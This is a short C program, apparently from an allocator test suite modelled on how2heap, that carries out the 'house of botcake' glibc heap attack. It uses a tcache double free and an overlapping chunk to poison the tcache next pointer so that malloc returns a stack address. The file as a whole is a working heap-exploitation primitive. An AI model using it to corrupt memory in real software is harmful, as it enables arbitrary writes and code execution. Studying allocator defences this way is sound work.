/* Technique: house of botcake (how2heap house_of_botcake).

   Goal: malloc returns a chosen address (a 16-byte aligned stack
   buffer).

   How: with the 0x110 tcache bin full, a is freed into the unsorted
   bin and then its neighbour prev, which consolidates with it into one
   0x220 free chunk.  One entry is taken out of the tcache and a is
   freed a second time: a's tcache key word is not the tcache key, so
   the double-free check passes and a goes into the tcache while it is
   also part of the free 0x220 chunk.  malloc (0x120) is carved from
   that chunk, overlaps a, and rewrites a's tcache next pointer to the
   target; two malloc (0x100) then return a and the target.  */
#include "attack.h"

int
main (void)
{
  attack_init ("house_of_botcake: double free into tcache of a chunk consolidated in the unsorted bin");
  _Alignas (16) size_t target[8] = { 0 };
  void *fill[7];
  for (int i = 0; i < 7; i++)
    fill[i] = malloc (0x100);
  char *prev = malloc (0x100);
  char *a = malloc (0x100);
  void *guard = malloc (0x10);
  say ("prev %p a %p guard %p target %p", prev, a, guard, target);
  for (int i = 0; i < 7; i++)
    free (fill[i]);
  free (a);			/* unsorted */
  free (prev);			/* consolidates with a */
  void *t = malloc (0x100);	/* one out of the tcache */
  free (a);			/* double free: a into the tcache */
  char *b = malloc (0x120);	/* from the consolidated chunk */
  say ("tcache %p; b = malloc (0x120) = %p", t, b);
  if (b && overlaps (b, 0x120, a, 8))
    *(size_t *) (b + (a - b)) = PROTECT_PTR (a, target);
  void *x = malloc (0x100);
  void *y = malloc (0x100);
  say ("malloc (0x100) = %p, then %p", x, y);
  if (y == (void *) target)
    reached ("malloc returned the stack target %p", y);
  no_effect ("malloc returned %p and %p, not the target %p", x, y, target);
}
